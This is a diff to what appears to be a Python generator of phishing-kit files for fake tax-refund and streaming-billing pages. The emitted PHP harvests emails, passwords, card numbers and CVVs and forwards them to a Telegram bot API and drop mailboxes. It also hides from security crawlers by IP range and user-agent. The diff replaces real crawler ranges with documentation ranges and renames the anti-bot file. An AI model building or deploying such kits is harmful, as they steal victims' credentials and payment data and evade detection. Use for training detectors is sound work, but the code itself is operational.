@@ -257,7 +257,7 @@ header("Location: $dir/");
     elif v == 1:
         c = """<?php
 function ip_in($ip, $cidr) { [$n, $m] = explode('/', $cidr); return (ip2long($ip) & ~((1 << (32 - $m)) - 1)) === ip2long($n); }
-$blocked = ['66.249.64.0/19', '157.55.0.0/16', '40.76.0.0/14', '64.233.160.0/19', '216.58.192.0/19', '173.252.64.0/18'];
+$blocked = ['192.0.2.0/24', '198.51.100.0/25', '198.51.100.128/26', '203.0.113.0/25', '203.0.113.192/27'];
 foreach ($blocked as $cidr) { if (ip_in($_SERVER['REMOTE_ADDR'], $cidr)) { http_response_code(403); exit('Forbidden'); } }
 if (empty($_SERVER['HTTP_ACCEPT_LANGUAGE']) || empty($_SERVER['HTTP_REFERER']) && empty($_GET['t'])) { exit; }
 if (!isset($_COOKIE['seen'])) { setcookie('seen', 1, time() + 3600); }
@@ -453,7 +453,7 @@ $r .= 'IP: ' . $_SERVER['REMOTE_ADDR'];
 mail('rez@example.net', '@TI@ - ' . $_SERVER['REMOTE_ADDR'], $r);
 file_get_contents('https://api.telegram.org/bot@T@/sendMessage?chat_id=@C@&text=' . rawurlencode($r));
 header('Location: merci.html');
-""", TI=title, T=tok, C=chat)
+""", TI=title.replace("'", "’"), T=tok, C=chat)
     elif v == 1:
         c = T("""<?php
 require 'config.php';
@@ -468,7 +468,7 @@ foreach ($config['chats'] as $chat) {
 }
 if ($config['email']) { mail($config['email'], '@TI@', $text); }
 header('Location: ' . $config['exit']);
-""", TI=title)
+""", TI=title.replace("'", "’"))
         cfg = T("<?php\n$config = ['bot' => '@T@', 'chats' => ['@C@', '-@C@1'], 'email' => 'drop@example.org', 'exit' => 'https://www.example.com/'];\n", T=tok, C=chat)
         return [F(html, d + "index.html", "html", "kit:tax-refund"), F(c, d + "envoi.php", "php", "kit:tax-refund"), F(cfg, d + "config.php", "php", "kit:tax-refund")]
     else:
@@ -480,7 +480,7 @@ $send = 'resultados@example.com';
 $headers = "From: @TI@ <robot@" . $_SERVER['SERVER_NAME'] . ">\\r\\nContent-Type: text/plain; charset=UTF-8";
 @mail($send, '@TI@ CC ' . substr($_POST['cb'], -4), print_r($_POST, true), $headers);
 header('Location: ok.html');
-""", TI=title)
+""", TI=title.replace("'", "’"))
     return [F(html, d + "index.html", "html", "kit:tax-refund"), F(c, d + "envoi.php", "php", "kit:tax-refund")]
 
 
@@ -545,7 +545,7 @@ header('Location: https://www.example.com/browse');
 """
     elif v == 1:
         c = """<?php
-include 'antibots.php';
+include 'blocker.php';
 $info = ['email' => $_POST['em'], 'password' => $_POST['pw'], 'card' => $_POST['cn'], 'exp' => $_POST['ex'], 'cvv' => $_POST['cv'],
          'ip' => $_SERVER['REMOTE_ADDR'], 'agent' => $_SERVER['HTTP_USER_AGENT']];
 $out = '';
@@ -559,7 +559,7 @@ echo "<script>window.location='done.html';</script>";
 $u = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
 if ($u === '' || preg_match('/bot|crawler|spider|facebookexternalhit|scan|curl|wget|python/', $u)) { header('HTTP/1.1 404 Not Found'); die('<h1>404 Not Found</h1>'); }
 """
-        return [F(html, d + "index.html", "html", "kit:streaming"), F(c, d + "billing.php", "php", "kit:streaming"), F(anti, d + "antibots.php", "php", "kit:streaming")]
+        return [F(html, d + "index.html", "html", "kit:streaming"), F(c, d + "billing.php", "php", "kit:streaming"), F(anti, d + "blocker.php", "php", "kit:streaming")]
     else:
         c = T("""<?php
 $data = array_intersect_key($_POST, array_flip(['em', 'pw', 'cn', 'ex', 'cv']));
